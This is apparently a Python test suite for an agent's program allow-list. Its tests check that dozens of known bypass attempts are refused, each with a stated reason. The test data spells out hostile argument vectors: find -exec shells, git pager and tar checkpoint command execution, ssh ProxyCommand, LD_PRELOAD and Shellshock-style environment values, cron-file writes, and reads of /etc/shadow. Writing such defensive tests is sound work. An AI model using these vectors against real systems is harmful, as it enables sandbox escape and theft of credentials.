"""A12: known ways around an allow-list, all refused, each with the reason.

The policy is what a careful administrator writes for programs that can start others or write files. The cases
are what people have sent to such lists: options that run a program, values that are taken for options, other
paths of the same program, shell syntax, traversal, variables that load code.
"""

from __future__ import annotations

from typing import Any

import pytest

from fazai.agent.config.policy import ExecRequest, find_rule
from fazai.agent.config.reading import parse_config
from fazai.agent.errors import Refused

POLICY = r"""
agent_id: edge-7
daemon: wss://fazai.example:3121
ca: /ca
certificate: /cert
key: /key
programs:
  - path: /usr/bin/find
    args: [{pattern: "/srv(/[a-z0-9.]+)*"}, "-name", {pattern: "[a-z*.]+"}]
    cwd: [/srv]
  - {path: /usr/bin/git, args: ["-C", {pattern: "/srv/[a-z]+"}, log, "--oneline", {pattern: "[a-z0-9._/-]+"}]}
  - {path: /bin/tar, args: ["-tf", {pattern: ".*\\.tar"}]}
  - {path: /usr/bin/rsync, args: ["-a", {pattern: ".+"}, "backup:/data/"]}
  - {path: /usr/bin/awk, args: ["{print $1}", {pattern: "/var/log/.*"}]}
  - {path: /usr/bin/less, args: [{pattern: "/var/log/[a-z]+"}]}
  - {path: /usr/bin/ssh, args: [{pattern: ".+"}, uptime]}
  - {path: /usr/bin/env, args: []}
  - {path: /usr/bin/xargs, args: ["-n1", echo], stdin: true}
  - {path: /usr/bin/sed, args: ["-n", "1,10p", {pattern: "/etc/[a-z]+"}]}
  - {path: /usr/bin/curl, args: ["-fsS", {pattern: "https://mirror.example/.*"}]}
  - {path: /usr/bin/zip, args: ["-T", {pattern: ".*\\.zip"}]}
  - {path: /bin/cat, args: [{pattern: "/var/log/.*"}]}
  - {path: /bin/systemctl, args: [{pattern: "status|restart"}, {pattern: "[a-z@.-]+"}]}
  - {path: /usr/bin/apt-get, name: refresh, args: ["update"]}
  - {path: /usr/bin/tcpdump, args: ["-c", {pattern: "[0-9]+"}, "-i", {pattern: "[a-z0-9]+"}]}
  - {path: /usr/bin/grep, args: ["-c", "--", {pattern: ".*", dash: true}, {pattern: "/var/log/.*"}]}
  - {path: /bin/ps, args: [{text: "-e", optional: true}, {pattern: "[a-z]+", optional: true}]}
  - {path: /usr/bin/du, args: ["-s", {pattern: "/[a-z]+", rest: true}]}
  - {path: /opt/a/tool, args: []}
  - {path: /opt/b/tool, args: []}
  - path: /usr/bin/python3
    args: [/opt/app/report.py]
    env: {APP_MODE: "[a-z]+", LANG: "C|C\\.UTF-8"}
    cwd: [/srv/app]
"""
PROGRAMS = parse_config(POLICY.encode(), "agent.yml").programs
FIND = ("find", "/srv", "-name", "x")
DASH = "a value that begins with - may be taken for an option"
PART = 'it has a part ".."'
LIST = "is not on the allow-list"
CONTROL = "it holds a control character"
MORE = "nothing more is allowed"

#: What is asked for, and words of the refusal.
BYPASSES: list[tuple[tuple[str, ...], str]] = [
    # Options that run a program.
    ((*FIND, "-exec", "/bin/sh", ";"), MORE),
    ((*FIND, "-execdir", "sh", "-c", "id", ";"), MORE),
    ((*FIND, "-ok", "id", ";"), MORE),
    ((*FIND, "-delete"), MORE),
    ((*FIND, "-fprintf", "/etc/cron.d/x", "%p"), MORE),
    (("find", "/srv", "-exec", "id"), '"-name" is expected'),
    (("find", "-exec", "-name", "x"), DASH),
    (("find", "/srv", "-name", "-exec"), DASH),
    (("find", "/srv/../etc", "-name", "x"), PART),
    (("git", "-c", "core.pager=!id", "log", "--oneline", "x"), '"-C" is expected'),
    (("git", "-C", "/srv/app", "log", "--oneline", "--output=/etc/cron.d/x"), DASH),
    (("git", "-C", "/srv/app", "log", "--oneline", "-O/etc/shadow"), DASH),
    (("git", "-C", "/srv/app", "log", "--oneline", "../../etc"), PART),
    (("git", "-C", "/srv/app/../../tmp", "log", "--oneline", "x"), PART),
    (("git", "-C", "/srv/app", "--paginate", "log", "x"), '"log" is expected'),
    (("git", "-C", "/srv/app", "log", "--oneline", "x", "--ext-diff"), MORE),
    (("tar", "-xf", "a.tar"), '"-tf" is expected'),
    (("tar", "-tf", "a.tar", "--to-command=sh"), MORE),
    (("tar", "-tf", "--checkpoint-action=exec=sh a.tar"), DASH),
    (("tar", "-tf", "-I sh -c id.tar"), DASH),
    (("tar", "-tf", "--use-compress-program=/tmp/x.tar"), DASH),
    (("tar", "--checkpoint=1", "-tf", "a.tar"), '"-tf" is expected'),
    (("rsync", "-a", "-e sh -c id", "backup:/data/"), DASH),
    (("rsync", "-a", "--rsh=sh -c id", "backup:/data/"), DASH),
    (("rsync", "-a", "x", "-e", "sh"), '"backup:/data/" is expected'),
    (("rsync", "-a", "x", "backup:/data/", "--rsync-path=id"), MORE),
    (("rsync", "-a", "x", "evil:/data/"), '"backup:/data/" is expected'),
    (("awk", 'BEGIN{system("id")}', "/var/log/x"), '"{print $1}" is expected'),
    (("awk", "-f", "/tmp/x.awk"), '"{print $1}" is expected'),
    (("awk", "{print $1}", "/var/log/../../etc/shadow"), PART),
    (("awk", "{print $1}", "-v", "x=1"), DASH),
    (("less", "+!id"), "it does not match"),
    (("less", "/var/log/syslog", "+!id"), MORE),
    (("less", "--lesskey-src=x"), DASH),
    (("ssh", "-oProxyCommand=id", "uptime"), DASH),
    (("ssh", "-F/tmp/config", "uptime"), DASH),
    (("ssh", "host", "id"), '"uptime" is expected'),
    (("ssh", "host", "uptime", "; id"), MORE),
    (("env", "sh"), MORE),
    (("env", "-S", "sh -c id"), MORE),
    (("env", "LD_PRELOAD=/tmp/x.so", "id"), MORE),
    (("xargs", "-n1", "sh"), '"echo" is expected'),
    (("xargs", "-I{}", "sh", "-c", "{}"), '"-n1" is expected'),
    (("sed", "-n", "1e id", "/etc/passwd"), '"1,10p" is expected'),
    (("sed", "-n", "w /etc/cron.d/x", "/etc/passwd"), '"1,10p" is expected'),
    (("sed", "-i", "1,10p", "/etc/passwd"), '"-n" is expected'),
    (("sed", "-n", "1,10p", "--in-place"), DASH),
    (("curl", "-fsS", "-o/etc/cron.d/x"), DASH),
    (("curl", "-fsS", "file:///etc/shadow"), "it does not match"),
    (("curl", "-fsS", "https://mirror.example/x", "-o", "/etc/cron.d/x"), MORE),
    (("curl", "-fsS", "https://mirror.example.evil/x"), "it does not match"),
    (("curl", "-fsS", "https://mirror.example/../x"), PART),
    (("curl", "-K", "/tmp/config"), '"-fsS" is expected'),
    (("zip", "-T", "-TT", "sh #"), DASH),
    (("zip", "-T", "-TT sh #.zip"), DASH),
    (("tcpdump", "-c", "1", "-i", "lo", "-z", "/tmp/x"), MORE),
    (("tcpdump", "-c", "1", "-i", "-zid"), DASH),
    (("tcpdump", "-c", "١", "-i", "lo"), "it does not match"),
    (("systemctl", "edit", "ssh"), "it does not match"),
    (("systemctl", "restart", "-H"), DASH),
    (("systemctl", "restart", "a", "b"), MORE),
    (("systemctl", "status|restart", "a"), "it does not match"),
    (("systemctl", "statusx", "a"), "it does not match"),
    (("systemctl", "status\n", "a"), CONTROL),
    (("refresh", "update", "-o", "APT::Update::Pre-Invoke::=id"), MORE),
    (("refresh", "-oAPT::Update::Pre-Invoke::=id", "update"), '"update" is expected'),
    (("apt-get", "install", "x"), '"update" is expected'),
    (("cat", "/var/log/../../etc/shadow"), PART),
    (("cat", "/var/log/x", "/etc/shadow"), MORE),
    (("cat", "/var/log/x\n/etc/shadow"), CONTROL),
    (("cat", "/etc/shadow"), "it does not match"),
    (("cat", "var/log/x"), "it does not match"),
    (("cat",), "argument 1 is missing: a value that matches /var/log/.*"),
    (("grep", "-c", "--", "x", "-f/etc/shadow"), DASH),
    (("grep", "-c", "-f", "/etc/shadow", "/var/log/x"), '"--" is expected'),
    (("grep", "-c", "--", "x", "/var/log/x", "/etc/shadow"), MORE),
    (("ps", "-e", "aux", "x"), MORE),
    (("ps", "-eo", "pid"), DASH),
    (("du", "-s", "/a", "--files0-from=/etc/shadow"), DASH),
    (("du", "-s", "/a", "b"), "it does not match"),
    (("du", "-s"), "argument 2 is missing"),
    # Other programs, and other names of the same one.
    (("sh", "-c", "id"), LIST),
    (("/bin/sh", "-c", "id"), LIST),
    (("/usr/bin/../bin/env",), LIST),
    (("/usr//bin/env",), LIST),
    (("/usr/bin/env ",), LIST),
    (("./env",), LIST),
    (("../usr/bin/env",), LIST),
    (("usr/bin/env",), LIST),
    (("/tmp/env",), LIST),
    (("ENV",), LIST),
    (("env;id",), LIST),
    (("env id",), LIST),
    (("",), LIST),
    (("$(id)",), LIST),
    (("tool",), '"tool" may be /opt/a/tool or /opt/b/tool'),
    # Shell syntax is a text like any other.
    (("cat", "$(cat /etc/shadow)"), "it does not match"),
    (("du", "-s", "/a;id"), "it does not match"),
    (("du", "-s", "/a", "|", "sh"), "it does not match"),
    (("python3", "-c", "import os"), '"/opt/app/report.py" is expected'),
    (("python3", "-i", "/opt/app/report.py"), '"/opt/app/report.py" is expected'),
    (("python3", "/opt/app/report.py", "x"), MORE),
    (("python3", "/opt/app/./report.py"), '"/opt/app/report.py" is expected'),
]
SIDEWAYS: list[tuple[dict[str, Any], str]] = [
    ({"env": {"PYTHONPATH": "/tmp"}}, "the variable PYTHONPATH may not be set"),
    ({"env": {"LD_PRELOAD": "/tmp/x.so"}}, "the variable LD_PRELOAD may not be set"),
    ({"env": {"PATH": "/tmp"}}, "the variable PATH may not be set"),
    ({"env": {"BASH_FUNC_ls%%": "() { id; }"}}, "the variable BASH_FUNC_ls%% may not be set"),
    ({"env": {"app_mode": "x"}}, "the variable app_mode may not be set"),
    ({"env": {"APP_MODE": "a", "IFS": "x"}}, "the variable IFS may not be set"),
    ({"env": {"APP_MODE": "() { :; }; id"}}, r"the value of APP_MODE does not match [a-z]+"),
    ({"env": {"APP_MODE": "a\n"}}, r"the value of APP_MODE does not match [a-z]+"),
    ({"env": {"APP_MODE": ""}}, r"the value of APP_MODE does not match [a-z]+"),
    ({"env": {"LANG": "CxUTF-8"}}, "the value of LANG does not match"),
    ({"stdin": "import os"}, "it is given no standard input"),
    ({"stdin": ""}, "it is given no standard input"),
    ({"cwd": "/tmp"}, '`cwd` may not be "/tmp", only / or below /srv/app'),
    ({"cwd": "/srv/application"}, '`cwd` may not be "/srv/application"'),
    ({"cwd": "/srv/app/../.."}, "`cwd` must be an absolute path without"),
    ({"cwd": "/srv/app/./x"}, "`cwd` must be an absolute path without"),
    ({"cwd": "/srv/app//x"}, "`cwd` must be an absolute path without"),
    ({"cwd": "srv/app"}, "`cwd` must be an absolute path without"),
    ({"cwd": "/srv/app/a\nb"}, "`cwd` must be an absolute path without"),
]
ALLOWED: list[tuple[tuple[str, ...], dict[str, Any]]] = [
    (FIND, {"cwd": "/srv/app"}),
    (("/usr/bin/find", "/srv/a.b/c", "-name", "*.log"), {}),
    (("git", "-C", "/srv/app", "log", "--oneline", "v1..v2"), {}),
    (("tar", "-tf", "/backup/a b.tar"), {}),
    (("grep", "-c", "--", "-x", "/var/log/syslog"), {}),
    (("refresh", "update"), {}),
    (("apt-get", "update"), {}),
    (("ps",), {}),
    (("ps", "-e"), {}),
    (("ps", "aux"), {}),
    (("ps", "-e", "aux"), {}),
    (("du", "-s", "/a", "/b", "/c"), {}),
    (("xargs", "-n1", "echo"), {"stdin": "a\nb"}),
    (("/opt/a/tool",), {}),
    (("python3", "/opt/app/report.py"), {"env": {"APP_MODE": "full", "LANG": "C.UTF-8"}, "cwd": "/srv/app"}),
]


def ask(argv: tuple[str, ...], **more: Any) -> str:
    message = {"command": argv[0], "args": list(argv[1:]), **more}
    return find_rule(ExecRequest.from_message(message), PROGRAMS).path


def test_there_are_enough_of_them() -> None:
    assert len(BYPASSES) + len(SIDEWAYS) >= 60
    assert len({argv for argv, _ in BYPASSES}) == len(BYPASSES)


@pytest.mark.parametrize(("argv", "words"), BYPASSES)
def test_a_way_around_the_list_is_refused_with_the_reason(argv: tuple[str, ...], words: str) -> None:
    with pytest.raises(Refused) as found:
        ask(argv)
    assert found.value.code == "not_allowed"
    assert words in found.value.message


@pytest.mark.parametrize(("more", "words"), SIDEWAYS)
def test_variables_folders_and_input_are_refused_with_the_reason(more: dict[str, Any], words: str) -> None:
    with pytest.raises(Refused) as found:
        ask(("python3", "/opt/app/report.py"), **more)
    assert found.value.code == "not_allowed"
    assert f"/usr/bin/python3: {words}" in found.value.message


@pytest.mark.parametrize(("argv", "more"), ALLOWED)
def test_what_the_list_means_is_allowed(argv: tuple[str, ...], more: dict[str, Any]) -> None:
    assert ask(argv, **more).endswith(argv[0].rpartition("/")[2] if argv[0] != "refresh" else "apt-get")


def test_an_agent_without_programs_runs_none() -> None:
    with pytest.raises(Refused, match="this agent runs no programs") as found:
        find_rule(ExecRequest("id", ()), ())
    assert found.value.code == "not_allowed"


def test_a_misspelt_name_has_its_hint_and_a_refusal_its_line() -> None:
    with pytest.raises(Refused, match=r'"tcpdmp" is not on the allow-list .did you mean "tcpdump"') as found:
        ask(("tcpdmp",))
    with pytest.raises(Refused, match="argument 2 is missing") as found:
        ask(("du", "-s"))
    assert found.value.hint == "line 28 of the agent's configuration"


def test_a_refused_value_is_shown_on_one_short_line() -> None:
    with pytest.raises(Refused, match="argument 1") as found:
        ask(("cat", "a\n\x1b[2J" + "x" * 10_000))
    assert found.value.message.isprintable()
    assert len(found.value.message) < 300


SEVERAL = f"""{POLICY.partition("programs:")[0]}programs:
  - {{path: /bin/a, args: [x, y], cwd: [/srv/one, /srv/two]}}
  - {{path: /bin/a, args: [x, {{pattern: "[0-9]+"}}], env: {{LANG: C}}, cwd: [/]}}
  - {{path: /bin/a, args: [{{text: "-v", optional: true}}, z]}}
"""


@pytest.mark.parametrize(
    ("args", "more", "words"),
    [
        (["x"], {}, 'argument 2 is missing: "y"'),
        ([], {}, 'argument 1 is missing: "x"'),
        (["-v"], {}, 'argument 2 is missing: "z"'),
        (["x", "q"], {}, 'argument 2, "q", is not allowed: "y" is expected'),
        (["x", "7", "8"], {}, 'argument 3, "8", is not allowed: nothing more is allowed'),
        (["x", "7"], {"env": {"TZ": "C"}}, "the variable TZ may not be set"),
        (["x", "7"], {"env": {"LANG": "D"}}, "the value of LANG does not match C"),
        (["x", "7"], {"stdin": "x"}, "it is given no standard input (`stdin: true` allows it)"),
        (
            ["x", "y"],
            {"cwd": "/srv/three"},
            '`cwd` may not be "/srv/three", only / or below /srv/one, /srv/two',
        ),
        (["z"], {"cwd": "/srv"}, '`cwd` may not be "/srv", only /'),
        (["q"], {}, 'argument 1, "q", is not allowed: "x" is expected'),
    ],
)
def test_of_several_entries_the_nearest_gives_the_reason(
    args: list[str], more: dict[str, Any], words: str
) -> None:
    programs = parse_config(SEVERAL.encode(), "agent.yml").programs
    with pytest.raises(Refused) as found:
        find_rule(ExecRequest.from_message({"command": "a", "args": args, **more}), programs)
    assert found.value.message == f"/bin/a: {words}"


@pytest.mark.parametrize(
    ("args", "cwd", "place"),
    [
        (["x", "y"], "/srv/one", 0),
        (["x", "y"], "/srv/two/deep", 0),
        (["x", "7"], "/anywhere/else", 1),
        (["-v", "z"], "/", 2),
        (["z"], "/", 2),
    ],
)
def test_of_several_entries_the_first_that_fits_counts(args: list[str], cwd: str, place: int) -> None:
    programs = parse_config(SEVERAL.encode(), "agent.yml").programs
    request = ExecRequest.from_message({"command": "/bin/a", "args": args, "cwd": cwd})
    assert find_rule(request, programs) is programs[place]
